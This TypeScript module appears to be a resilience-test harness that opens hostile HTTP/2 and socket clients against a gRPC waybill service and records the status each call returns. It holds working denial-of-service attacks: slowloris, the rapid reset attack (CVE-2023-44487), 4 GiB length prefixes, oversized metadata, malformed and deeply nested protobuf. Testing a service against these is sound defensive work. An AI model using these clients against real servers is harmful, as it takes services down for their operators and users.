// Clients that mean harm, on bare sockets and bare HTTP/2: no gRPC library would send this.
import { once } from 'node:events';
import {
  type ClientHttp2Session,
  type ClientHttp2Stream,
  connect as connectHttp2,
} from 'node:http2';
import { connect, type Socket } from 'node:net';

const ISSUE = '/queqiao.waybill.v1.WaybillService/IssueWaybills';
const PREFACE = 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n';

/** Connections that are opened and never used. */
export function silentSockets(count: number): Attack {
  return (target) => openSockets(target, count, () => undefined);
}

/** Connections that send the beginning of HTTP/2 a byte at a time, for ever. */
export function slowLoris(count: number): Attack {
  return (target) =>
    openSockets(target, count, (socket) => {
      let sent = 0;
      const timer = setInterval(() => socket.write(PREFACE[sent++ % PREFACE.length] ?? ''), 50);
      socket.on('close', () => clearInterval(timer));
    });
}

/** Calls whose request never ends. */
export function halfOpenStreams(sessions: number, streams: number): Attack {
  return (target) =>
    openSessions(target, sessions, (session) => {
      for (let i = 0; i < streams; i++) begin(session, target).write(frame(Buffer.alloc(0), 1_000));
      return [];
    });
}

/** CVE-2023-44487: streams that are opened and cancelled in one breath. */
export function rapidReset(sessions: number, streams: number): Attack {
  return (target) =>
    openSessions(target, sessions, (session) => {
      for (let i = 0; i < streams && !session.destroyed; i++) begin(session, target).close(8);
      return [];
    });
}

/** A message whose length prefix promises 4 GiB. */
export function declareGiant(count: number): Attack {
  return (target) => calls(target, count, frame(Buffer.alloc(100), 0xffffffff), { isEnded: false });
}

export function oversized(count: number, bytes: number): Attack {
  return (target) => calls(target, count, frame(Buffer.alloc(bytes)));
}

export function hugeMetadata(count: number): Attack {
  const headers = Object.fromEntries(
    Array.from({ length: 60 }, (_, i) => [`x-filler-${i}`, 'x'.repeat(1_000)]),
  );
  return (target) => calls(target, count, frame(Buffer.alloc(0)), { headers });
}

/** Bytes that protobuf cannot read: wrong wire types, lengths beyond the end, endless varints. */
export function malformed(count: number): Attack {
  const bodies = [
    '0fff',
    '0affffff7f00',
    '12ff',
    `08${'ff'.repeat(20)}`,
    '0a',
    '1b1b1b1b',
    'ffffffff',
  ];
  return (target) =>
    calls(target, count, (i) => frame(Buffer.from(bodies[i % bodies.length] ?? '', 'hex')));
}

/** Unknown groups within groups: what a reader without a limit follows until its stack ends. */
export function nested(count: number): Attack {
  const depth = 10_000;
  const open = Buffer.alloc(depth, 0x7b);
  const close = Buffer.alloc(depth, 0x7c);
  return (target) => calls(target, count, frame(Buffer.concat([open, close])));
}

/** A valid request whose texts are not UTF-8. */
export function notText(count: number): Attack {
  const orderRef = Buffer.from([0x0a, 4, 0xff, 0xfe, 0xc0, 0x80]);
  const parcel = Buffer.concat([Buffer.from([0x12, orderRef.length]), orderRef]);
  return (target) => calls(target, count, frame(parcel));
}

/** A message with its five bytes in front. */
function frame(body: Buffer, length = body.length): Buffer {
  const head = Buffer.alloc(5);
  head.writeUInt32BE(length, 1);
  return Buffer.concat([head, body]);
}

async function openSockets(
  { address }: Target,
  count: number,
  use: (socket: Socket) => void,
): Promise<RunningAttack> {
  const [host = '', port = ''] = address.split(':');
  const sockets = Array.from({ length: count }, () => {
    const socket = connect(Number(port), host);
    socket.on('error', () => undefined);
    use(socket);
    return socket;
  });
  await Promise.all(sockets.map((socket) => once(socket, 'connect').catch(() => undefined)));
  return {
    answers: async () => [],
    async [Symbol.asyncDispose]() {
      for (const socket of sockets) socket.destroy();
    },
  };
}

async function openSessions(
  { address }: Target,
  count: number,
  use: (session: ClientHttp2Session) => Promise<Answer>[],
): Promise<RunningAttack> {
  const sessions = Array.from({ length: count }, () => {
    const session = connectHttp2(`http://${address}`);
    session.on('error', () => undefined);
    return session;
  });
  await Promise.all(sessions.map((session) => once(session, 'connect')));
  const answers = sessions.flatMap(use);
  return {
    answers: () => Promise.all(answers),
    async [Symbol.asyncDispose]() {
      for (const session of sessions) session.destroy();
    },
  };
}

/** So many calls with this body on one connection; each answers its status. */
function calls(
  target: Target,
  count: number,
  body: Buffer | ((index: number) => Buffer),
  { headers = {}, isEnded = true }: { headers?: Record<string, string>; isEnded?: boolean } = {},
): Promise<RunningAttack> {
  return openSessions(target, 1, (session) =>
    Array.from({ length: count }, (_, i) => {
      const stream = begin(session, target, headers);
      const bytes = typeof body === 'function' ? body(i) : body;
      if (isEnded) stream.end(bytes);
      else stream.write(bytes);
      return statusOf(stream);
    }),
  );
}

function begin(
  session: ClientHttp2Session,
  { apiKey }: Target,
  headers: Record<string, string> = {},
): ClientHttp2Stream {
  const stream = session.request(
    {
      ':method': 'POST',
      ':path': ISSUE,
      'content-type': 'application/grpc',
      te: 'trailers',
      'grpc-timeout': '5S',
      authorization: `Bearer ${apiKey}`,
      ...headers,
    },
    { endStream: false },
  );
  stream.on('error', () => undefined);
  return stream;
}

/** The status of a call, in its trailers or, where it was refused at once, in its headers. */
function statusOf(stream: ClientHttp2Stream): Promise<Answer> {
  return new Promise((resolve) => {
    let status = -1;
    const read = (headers: Record<string, unknown>) => {
      if (headers['grpc-status'] !== undefined) status = Number(headers['grpc-status']);
    };
    stream.on('response', read);
    stream.on('trailers', read);
    stream.on('close', () => resolve({ status }));
    stream.resume();
  });
}

export type Target = { address: string; apiKey: string };

/** Begins, and is answered once it is under way. */
export type Attack = (target: Target) => Promise<RunningAttack>;

export type RunningAttack = AsyncDisposable & {
  /** What the server said to those calls that wait for an answer. */
  answers(): Promise<Answer[]>;
};

type Answer = { status: number };
